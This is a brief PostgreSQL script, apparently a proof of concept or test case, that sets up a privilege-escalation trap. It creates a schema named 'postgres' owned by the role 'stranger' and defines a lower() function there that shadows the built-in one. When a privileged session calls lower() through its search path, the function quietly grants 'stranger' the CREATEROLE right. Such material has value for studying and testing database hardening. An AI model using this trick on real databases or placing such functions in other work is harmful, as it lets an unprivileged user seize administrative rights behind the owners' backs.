\connect postgres
CREATE SCHEMA postgres AUTHORIZATION stranger;
\connect postgres stranger
CREATE FUNCTION postgres.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
  ALTER ROLE stranger CREATEROLE;
  RETURN pg_catalog.lower($1);
END $$;
